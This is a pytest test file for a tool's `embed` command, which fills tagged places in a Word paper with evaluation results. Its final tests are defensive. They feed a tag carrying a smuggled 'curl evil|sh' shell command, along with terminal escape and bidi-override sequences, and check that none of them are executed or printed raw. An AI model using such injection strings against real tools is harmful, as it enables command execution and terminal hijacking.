"""`cseval embed`: what it prints, what it writes, and the codes it ends with."""

from __future__ import annotations

import json
import subprocess
import sys

import pytest
from paper_builders import (
    SLUG,
    document,
    in_line,
    members_of,
    paragraph,
    places,
    root,
    sdt,
    waiting_block,
    waiting_run,
    word_file,
    word_members,
    word_paper,
    write_run,
)

VALUE = "cseval:pilot/value/primary/percent_change"
BODY = paragraph("Summary.") + waiting_block("cseval:pilot/effects") + in_line("Changed by ", waiting_run(VALUE))


@pytest.fixture
def project(tmp_path, monkeypatch):
    """A project with the outputs of one real run, as the current folder, and a paper in it."""
    write_run(tmp_path / "outputs" / SLUG)
    (tmp_path / "paper.docx").write_bytes(word_paper(BODY))
    monkeypatch.chdir(tmp_path)
    return tmp_path


ROW = "[outputs/pilot-evaluation/effects.csv, row 2, column percent_change]"


def replaced(project, old, new):
    """Change words of the main text of the paper, as a person would."""
    members = members_of((project / "paper.docx").read_bytes())
    main = members["word/document.xml"].decode()
    assert old in main
    content = {**members, "word/document.xml": main.replace(old, new).encode()}
    (project / "paper.docx").write_bytes(word_file(content))


def same_again(project):
    """The same outputs by another command, so that only the hash of the run is another."""
    path = project / "outputs" / SLUG / "manifest.json"
    path.write_text(json.dumps({**json.loads(path.read_text()), "command": "cseval run again"}))


def test_each_place_that_is_filled_is_named_with_what_it_says_now(project, cseval):
    said = cseval("embed", "paper.docx")
    assert (said.code, said.err) == (0, "")
    assert f"  filled: {VALUE} (main text): −6.2% {ROW}\n" in said.out
    assert said.out.endswith("\npaper.docx: 2 filled, all current now.\n")


def test_the_second_run_keeps_everything_and_names_places_only_if_asked(project, cseval):
    cseval("embed", "paper.docx")
    before = (project / "paper.docx").read_bytes()
    said = cseval("embed", "paper.docx")
    assert (said.code, (project / "paper.docx").read_bytes()) == (0, before)
    assert said.out == "paper.docx: 2 places, all current, nothing to change.\n"
    said = cseval("embed", "paper.docx", "--verbose")
    assert said.out.startswith("  kept: cseval:pilot/effects (main text, current)\n")


def test_changes_by_hand_are_told_with_what_stood_there_and_counted(project, cseval):
    cseval("embed", "paper.docx")
    replaced(project, ">−6.2%<", ">−6%<")
    said = cseval("embed", "paper.docx")
    assert "    row “Disorder”, column “Change”: “−6%” where the last run says “−6.2%”\n" in said.out
    assert f"  filled: {VALUE} (main text, changed by hand)\n    was: −6%\n    now: −6.2%\n    {ROW}\n" in said.out
    assert said.out.endswith(
        f"paper.docx: 2 filled, all current now. 2 of them had been changed by hand: cseval:pilot/effects, {VALUE}.\n"
    )


def test_where_a_run_found_the_same_places_are_only_counted(project, cseval):
    cseval("embed", "paper.docx")
    before = (project / "paper.docx").read_bytes()
    same_again(project)
    said = cseval("embed", "paper.docx", "--check")
    assert (said.code, said.out) == (0, "paper.docx: 2 places, all current, 2 the same, from an earlier run.\n")
    assert json.loads(cseval("embed", "paper.docx", "--check", "--json").out)["same_from_an_earlier_run"] == 2
    said = cseval("embed", "paper.docx")
    assert said.out == "paper.docx: 2 the same and marked as from the last run, all current now.\n"
    assert (project / "paper.docx").read_bytes() != before
    assert cseval("embed", "paper.docx").out.endswith("nothing to change.\n")


def test_controls_that_are_not_for_cseval_are_counted(project, cseval):
    (project / "paper.docx").write_bytes(word_paper(BODY + sdt("Department", paragraph("x"))))
    assert cseval("embed", "paper.docx").out.endswith("now. 1 other content control left alone.\n")
    assert cseval("embed", "paper.docx", "--check").out.endswith("current. 1 other content control left alone.\n")


def test_check_prints_a_table_writes_nothing_and_finds(project, cseval):
    before = (project / "paper.docx").read_bytes()
    said = cseval("embed", "paper.docx", "--check")
    assert said.code == 1
    assert (project / "paper.docx").read_bytes() == before
    heading, *lines = said.out.splitlines()
    assert heading.split("  ")[0] == "Place"
    assert any(VALUE in line and "not filled" in line and "−6.2%" in line for line in lines)
    assert lines[-1] == "paper.docx: 2 of 2 places not current."


def test_check_of_a_current_paper_finds_nothing(project, cseval):
    cseval("embed", "paper.docx")
    said = cseval("embed", "paper.docx", "--check")
    assert (said.code, said.out) == (0, "paper.docx: 2 places, all current.\n")
    said = cseval("embed", "paper.docx", "--check", "--verbose")
    assert said.code == 0
    assert "the same" in said.out
    assert "outputs/pilot-evaluation/effects.csv, row 2," in said.out


def test_check_names_stale_places_after_another_run(project, cseval):
    cseval("embed", "paper.docx")
    write_run(project / "outputs" / SLUG, places(change="−7.0%"))
    said = cseval("embed", "paper.docx", "--check")
    assert said.code == 1
    assert said.out.count("from an earlier run") == 2
    assert "row “Disorder”, column" in said.out


def test_json_holds_every_place_with_its_row(project, cseval):
    said = cseval("embed", "paper.docx", "--check", "--json")
    found = json.loads(said.out)
    assert (said.code, found["stale"], found["written"], found["changes_tracked"]) == (1, 2, "", False)
    value = found["places"][1]
    assert value["origin"] == {"file": "outputs/pilot-evaluation/effects.csv", "row": 2, "column": "percent_change"}
    assert (value["state"], value["says"], value["before"]) == ("not filled", "−6.2%", value["before"])
    written = json.loads(cseval("embed", "paper.docx", "--json").out)
    assert written["written"] == "paper.docx"
    assert json.loads(cseval("embed", "paper.docx", "--json").out)["written"] == ""


def test_out_leaves_the_paper_alone(project, cseval):
    before = (project / "paper.docx").read_bytes()
    said = cseval("embed", "paper.docx", "--out", "other.docx")
    assert said.code == 0
    assert (project / "paper.docx").read_bytes() == before
    assert "−6.2%".encode() in members_of((project / "other.docx").read_bytes())["word/document.xml"]
    assert said.out.endswith("other.docx: 2 filled, all current now.\n")
    (project / "other.docx").write_bytes(b"a week's work")
    said = cseval("embed", "paper.docx", "--out", "other.docx")
    assert (said.code, (project / "other.docx").read_bytes()) == (2, b"a week's work")
    assert "add --force to replace it" in said.err
    assert cseval("embed", "paper.docx", "--out", "other.docx", "--force").code == 0
    assert cseval("embed", "other.docx", "--check").code == 0


def test_a_paper_that_tracks_changes_says_that_these_are_not_among_them(project, cseval):
    settings = root("settings", "<w:trackRevisions/>")
    (project / "paper.docx").write_bytes(word_file(word_members(BODY, **{"word/settings.xml": settings})))
    said = cseval("embed", "paper.docx")
    assert f"not tracked; say so to whoever approves it:\n  cseval:pilot/effects\n  {VALUE}\n" in said.out
    assert "not tracked" not in cseval("embed", "paper.docx").out


def test_demonstration_outputs_are_used_only_where_asked_for_and_say_so(project, cseval):
    import shutil

    shutil.rmtree(project / "outputs" / SLUG)
    write_run(project / "outputs/demonstration" / SLUG, places(data="demonstration"))
    said = cseval("embed", "paper.docx")
    assert said.code == 2
    assert "--data demonstration for a draft" in said.err
    said = cseval("embed", "paper.docx", "--data", "demonstration")
    assert said.code == 0
    assert said.out.startswith("DEMONSTRATION DATA: simulated, no real place.\n")
    assert "−6.2% (simulated)" in said.out


def test_a_check_against_real_outputs_names_what_is_from_demonstration_data(project, cseval):
    write_run(project / "outputs/demonstration" / SLUG, places(data="demonstration"))
    cseval("embed", "paper.docx", "--data", "demonstration")
    said = cseval("embed", "paper.docx", "--check")
    assert said.code == 1
    assert said.out.count("from demonstration data") == 2


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (b"text", "paper.docx: not a Word document; expected a Word document"),
        (word_paper(paragraph("x")), "paper.docx: no place for cseval in it"),
        (word_paper(in_line("x", waiting_run("cseval:pilot/effects"))), "select the whole paragraph"),
        (word_paper(waiting_block("cseval:pilot/figure/none")), "no figure 'none'"),
    ],
)
def test_a_paper_that_cannot_be_filled_is_one_message_and_stays_as_it_was(project, cseval, content, said):
    (project / "paper.docx").write_bytes(content)
    for more in ((), ("--check",), ("--json",)):
        result = cseval("embed", "paper.docx", *more)
        assert (result.code, result.out) == (2, "")
        assert result.err.startswith("Error: paper.docx: ")
        assert said in result.err
    assert (project / "paper.docx").read_bytes() == content
    assert sorted(p.name for p in project.iterdir()) == ["outputs", "paper.docx"]


def test_a_paper_that_is_open_or_not_there(project, cseval):
    (project / "~$paper.docx").write_bytes(b"me")
    said = cseval("embed", "paper.docx")
    assert said.code == 2
    assert "the paper is open in Word. Close the document and run again" in said.err
    assert cseval("embed", "paper.docx", "--check").code == 1
    assert "no such file" in cseval("embed", "none.docx").err


def test_check_and_out_are_not_taken_together(project, cseval):
    assert cseval("embed", "paper.docx", "--check", "--out", "other.docx").code == 2
    assert not (project / "other.docx").exists()


def test_control_characters_in_a_paper_do_not_reach_the_terminal(project, cseval):
    body = (
        paragraph("\x9b2J") + waiting_block("cseval:pilot/effects") + in_line("\x9b", waiting_run("cseval:pilot/x\x9b"))
    )
    (project / "paper.docx").write_bytes(word_file(word_members(**{"word/document.xml": document(body)})))
    said = cseval("embed", "paper.docx")
    assert said.code == 2
    assert "\x9b" not in said.err


def harmless(text):
    return all(c.isprintable() or c == "\n" for c in text)


def test_nothing_of_a_paper_is_obeyed_by_the_terminal(project, cseval):
    body = paragraph("\x9b") + waiting_block("cseval:pilot/effects") + sdt(VALUE, paragraph("\x9b2J\u202e now"))
    for more in (("--check",), ("--check", "--json"), ("--json",), ("--verbose",)):
        (project / "paper.docx").write_bytes(word_paper(body))
        said = cseval("embed", "paper.docx", *more)
        assert said.code == (1 if "--check" in more else 0)
        assert harmless(said.out + said.err)


def test_nothing_of_the_outputs_is_obeyed_by_the_terminal(project, cseval):
    evil = "\x1b]0;x\x07\x9b\u202e"
    content = places()
    content["values"][evil] = {evil: evil}
    content["values"]["primary"]["percent_change"] = evil
    content["tables"]["effects"]["rows"][0] = [evil] * 3
    write_run(project / "outputs" / SLUG, content)
    said = cseval("embed", "paper.docx")
    assert said.code == 0
    assert "now: " not in said.out
    assert harmless(said.out)
    members = members_of((project / "paper.docx").read_bytes())
    members["word/document.xml"] = members["word/document.xml"].replace(b">Outcome<", b">Else<")
    (project / "paper.docx").write_bytes(word_file(members))
    assert harmless(cseval("embed", "paper.docx", "--check").out)
    (project / "paper.docx").write_bytes(word_paper(waiting_block("cseval:pilot/value/none/x")))
    said = cseval("embed", "paper.docx")
    assert said.code == 2
    assert harmless(said.err)


def test_a_huge_tag_is_cut_and_no_name_is_put_into_a_command(project, cseval):
    tags = ("cseval:" + "a" * 1_000_000, "cseval:a;curl evil|sh/effects")
    (project / "paper.docx").write_bytes(word_paper("".join(map(waiting_block, tags))))
    said = cseval("embed", "paper.docx")
    assert said.code == 2
    assert len(said.err) < 2000
    assert "Run `cseval run EVALUATION` first." in said.err


def test_the_name_of_a_file_is_not_obeyed_either(project, cseval):
    (project / "a\x1b[2J.docx").write_bytes(word_paper(BODY))
    for name in ("a\x1b[2J.docx", "b\x1b[2J.docx", "b" * 300 + ".docx"):
        said = cseval("embed", name)
        assert said.code == (0 if name[0] == "a" else 2)
        assert harmless(said.out + said.err)


def test_it_loads_neither_pandas_nor_matplotlib(project):
    code = (
        "import sys\n"
        "from cseval.cli.embed import embed\n"
        "embed.main(['paper.docx'], standalone_mode=False)\n"
        "heavy = ('pandas', 'matplotlib', 'lxml', 'docx', 'statsmodels')\n"
        "print([m for m in heavy if m in sys.modules], file=sys.stderr)"
    )
    ran = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert "2 filled, all current now." in ran.stdout
    assert ran.stderr.strip() == "[]"
